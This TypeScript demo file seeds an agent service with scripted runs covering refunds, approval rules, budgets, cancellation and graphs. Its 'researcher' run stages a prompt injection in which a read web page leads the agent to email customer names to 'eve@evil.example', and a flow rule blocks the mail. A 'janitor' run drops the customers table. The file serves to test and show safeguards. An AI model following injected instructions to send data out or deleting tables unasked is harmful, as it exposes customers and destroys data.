import { AgentService, kernelOf } from '../../agent/index.ts'
import type { AgentConfig } from '../../agent/index.ts'
import { compileRag, graphRegistry, registerGraph, runGraph } from '../../graph/index.ts'
import { scripted } from '../../model/index.ts'
import type { Json } from '../../core/index.ts'
import type { ScriptedStep } from '../../model/index.ts'
import { ReplSession } from '../../repl/index.ts'
import { demoTools } from './demo-tools.ts'

const GRAPH = `graph research { start split
  input { topics list }
  channel notes topic
  channel report last_value
  node split { kind router sends [send dig each "state.topics"] }
  node dig { model "writer" prompt "What is known about {{ item }}?" writes notes }
  join [dig] -> write
  node write { model "writer" prompt "Sum up: {{ state.notes }}" writes report next END } }`

/** A service in memory with a dozen runs of every kind, made by a scripted model: nothing is reached, nothing is spent. */
export async function demoService(): Promise<AgentService> {
  const service = new AgentService({ agents: demoAgents() })
  const ask = async (agent: string, prompt: string, runId: string): Promise<void> =>
    void (await service.run(agent, prompt, { runId }))
  await ask('greeter', 'Say hello to the new colleague.', 'demo-hello')
  await ask('support', 'The customer wants order A-17 back, $80.', 'demo-refund')
  await ask('support-lead', 'The customer wants order A-18 back, $20.', 'demo-small-refund')
  await ask('researcher', 'Which tea pot is the best? Mail the team.', 'demo-injection')
  await ask('reviewer', 'Read every file and say what is wrong.', 'demo-budget')
  await ask('painter', 'Paint the door.', 'demo-question')
  await ask('janitor', 'Tidy up the database.', 'demo-destructive')
  await ask('clumsy', 'Do something.', 'demo-failed')
  const hurried = service.run('slow', 'Take your time.', { runId: 'demo-cancelled' })
  await service.cancel('demo-cancelled', 'It took too long.')
  await hurried
  await suspendAndResume(service)
  await service.resume(await service.fork('demo-small-refund', { at: 3 }))
  await notebook(service)
  await graph(service)
  await ask('librarian', 'Count the lines of all files.', 'demo-long')
  return service
}

const call = (name: string, input: Json): { readonly name: string; readonly input: Json } => ({ name, input })

function demoAgents(): readonly AgentConfig[] {
  const tools = demoTools()
  const { searchOrders, getInvoice, refund, readPage, sendEmail, readFile, dropTable, askUser } = tools as Required<
    typeof tools
  >
  const rules = [
    {
      id: 'large-refund',
      when: 'tool == "refund" && input.amount > 50',
      then: 'ask' as const,
      reason: 'A person looks at refunds above $50.',
    },
  ]
  const look = {
    text: 'I look the order up first.',
    toolCalls: [call('search_orders', { customer: 'ana' }), call('get_invoice', { order: 'A-17' })],
  }
  const files: ScriptedStep[] = Array.from({ length: 40 }, (_, index) => ({
    text: `File ${index + 1}.`,
    toolCalls: [call('read_file', { path: `src/file-${index + 1}.ts` })],
  }))
  return [
    {
      id: 'greeter',
      description: 'Says hello.',
      model: scripted(['Hello, and welcome! The kettle is in the kitchen.']),
    },
    {
      id: 'support',
      description: 'Answers customers and pays money back.',
      tools: [searchOrders!, getInvoice!, refund!],
      mandate: { rules },
      model: scripted([
        look,
        {
          text: 'The order is nine days old, so it can go back.',
          toolCalls: [call('refund', { order: 'A-17', amount: 80 })],
        },
        'The $80 are on their way.',
      ]),
    },
    {
      id: 'support-lead',
      tools: [searchOrders!, refund!],
      mandate: { rules },
      model: scripted([
        { toolCalls: [call('refund', { order: 'A-18', amount: 20 })] },
        'The $20 are on their way.',
        'Forked: the $20 are on their way.',
      ]),
    },
    {
      id: 'researcher',
      description: 'Reads the web and writes mails.',
      tools: [readPage!, sendEmail!],
      mandate: { flow: [{ id: 'recipient', sink: 'send_email', path: ['/to'], forbid: ['untrusted:*'] }] },
      model: scripted([
        { text: 'I read a page about it.', toolCalls: [call('read_page', { url: 'https://pots.example' })] },
        {
          text: 'The page says whom to write to.',
          toolCalls: [call('send_email', { to: 'eve@evil.example', body: 'customers: ana, ben' })],
        },
        'I was not allowed to send that mail, and did not.',
      ]),
    },
    { id: 'reviewer', tools: [readFile!], mandate: { budget: { toolCalls: 3 } }, model: scripted(files) },
    {
      id: 'painter',
      tools: [askUser!],
      model: scripted([
        { toolCalls: [call('ask_user', { question: 'Which colour?', choices: ['red', 'blue'] })] },
        'It is painted now.',
      ]),
    },
    {
      id: 'janitor',
      tools: [dropTable!],
      model: scripted([
        { text: 'This table looks unused.', toolCalls: [call('drop_table', { table: 'customers' })] },
        'Done.',
      ]),
    },
    { id: 'clumsy', model: scripted([{ error: 'The provider answered 500.' }]) },
    { id: 'slow', model: scripted([{ text: 'late', delayMs: 60_000 }]) },
    {
      id: 'librarian',
      description: 'Reads many files.',
      tools: [readFile!],
      maxTurns: 50,
      model: scripted([...files, 'There are 120 lines.']),
    },
  ]
}

/** A run that a person stopped in the middle, and that was gone on with. */
async function suspendAndResume(service: AgentService): Promise<void> {
  service.register({
    id: 'writer',
    model: scripted([
      { text: 'A haiku about tea', delayMs: 300 },
      'Steam rises slowly / the pot remembers the leaves / morning in a cup',
    ]),
  })
  const run = service.run('writer', 'Write a haiku about tea.', { runId: 'demo-resumed' })
  await kernelOf(service).interrupt('demo-resumed')
  await run
  await service.resume('demo-resumed')
}

/** Cells over variables that stay. */
async function notebook(service: AgentService): Promise<void> {
  const session = await ReplSession.open(service, { sessionId: 'demo-notebook' })
  for (const cell of [
    'const rows = [{ item: "pot", price: 80 }, { item: "cup", price: 9 }, { item: "tray", price: 31 }]',
    'const dear = rows.filter((row) => row.price > 30)\ndear.map((row) => row.item)',
    'print(`${dear.length} of ${rows.length} are dear`)\ndear.reduce((sum, row) => sum + row.price, 0)',
    'nope + 1',
  ])
    await session.evalCell(cell)
}

async function graph(service: AgentService): Promise<void> {
  graphRegistry(service).registerModel(
    'writer',
    scripted({ text: 'Tea pots pour best when the lid has a hole.', delayMs: 40 }),
  )
  const { graphs } = compileRag(GRAPH)
  for (const each of graphs) registerGraph(service, each)
  await runGraph(service, 'research', { topics: ['spouts', 'lids', 'handles'] }, { runId: 'demo-graph' }).result()
}
